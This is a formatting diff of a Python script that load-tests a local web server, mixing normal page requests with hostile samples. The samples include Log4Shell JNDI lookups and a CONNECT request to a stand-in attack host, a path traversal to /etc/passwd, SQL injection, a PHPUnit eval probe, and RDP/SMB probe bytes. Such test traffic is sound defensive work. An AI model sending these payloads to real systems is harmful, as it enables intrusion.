@@ -8,6 +8,7 @@ order in which they are answered is the servers' affair. Progress goes to stdout
 
 import argparse
 import collections
+import collections.abc
 import contextlib
 import http.client
 import queue
@@ -83,8 +84,7 @@ def main():
         todo.put(request)
     tally = Tally()
     workers = [
-        threading.Thread(target=work, args=(options.port, todo, tally))
-        for _ in range(options.connections)
+        threading.Thread(target=work, args=(options.port, todo, tally)) for _ in range(options.connections)
     ]
     for worker in workers:
         worker.start()
@@ -100,7 +100,10 @@ def parse_arguments():
     parser.add_argument("--requests", type=int, default=1000, help="how many (default: %(default)s)")
     parser.add_argument("--seed", type=int, default=1, help="of the choices (default: %(default)s)")
     parser.add_argument(
-        "--hostile-every", type=int, default=10, help="one hostile request in so many; 0: none (default: %(default)s)"
+        "--hostile-every",
+        type=int,
+        default=10,
+        help="one hostile request in so many; 0: none (default: %(default)s)",
     )
     parser.add_argument("--connections", type=int, default=8, help="at a time (default: %(default)s)")
     return parser.parse_args()
@@ -179,7 +182,9 @@ def user_request(rng, rank):
 
 MIX = [
     get(14, lambda rng, rank: "/"),
-    get(12, lambda rng, rank: "/articles/" if rng.random() < 0.7 else f"/articles/?page={rng.randint(2, 40)}"),
+    get(
+        12, lambda rng, rank: "/articles/" if rng.random() < 0.7 else f"/articles/?page={rng.randint(2, 40)}"
+    ),
     get(6, lambda rng, rank: f"/articles/{year(rng)}/"),
     get(22, lambda rng, rank: f"/articles/{2026 - rank % 9}/{rank % 12 + 1}/{slug(rank)}/"),
     get(2, lambda rng, rank: f"/articles/archive/{year(rng)}/"),
@@ -227,7 +232,9 @@ def hostile():
         Hostile(request(b"/slow/"), "leave"),
         visit(b"/../../etc/passwd"),
         Hostile(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
-        visit(b"/?x=${jndi:ldap://attack.example.test/a}", b"User-Agent: ${jndi:ldap://attack.example.test/b}"),
+        visit(
+            b"/?x=${jndi:ldap://attack.example.test/a}", b"User-Agent: ${jndi:ldap://attack.example.test/b}"
+        ),
         Hostile(b"GET /articles/\r\n"),  # HTTP/0.9
         visit(b"/articles/?id=1'%20OR%20'1'='1';--"),
         visit(b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method=b"POST", body=b"<?php"),
@@ -235,7 +242,9 @@ def hostile():
         Hostile(b"\r\n", "stay"),  # logged as an empty request
         visit(b"/", method=b"PROPFIND"),
         Hostile(b"CONNECT attack.example.test:443 HTTP/1.1\r\nHost: attack.example.test:443\r\n\r\n"),
-        Hostile(b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "stay"),  # RDP
+        Hostile(
+            b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "stay"
+        ),  # RDP
         Hostile(b"\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8\n\n"),
         visit(b"/", method=b"TRACE"),
         visit(b"*", method=b"OPTIONS"),
@@ -270,8 +279,12 @@ def hostile():
         Hostile(b"GET / HTTP/1.1\r\n\r\n"),
         Hostile(b"GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n"),
         Hostile(b"GET /health/ HTTP/1.1\r\nHost: localhost\r\n\r\n" * 3 + request(b"/articles/")),
-        Hostile(b"POST /api/v1/users/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf", "stay"),
-        Hostile(b"POST /api/v1/users/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf", "leave"),
+        Hostile(
+            b"POST /api/v1/users/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf", "stay"
+        ),
+        Hostile(
+            b"POST /api/v1/users/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf", "leave"
+        ),
         Hostile(request(b"/slow/"), "reset"),
         visit(b"/impatient/slow/"),  # 504
         visit(b"/closed/"),  # 444
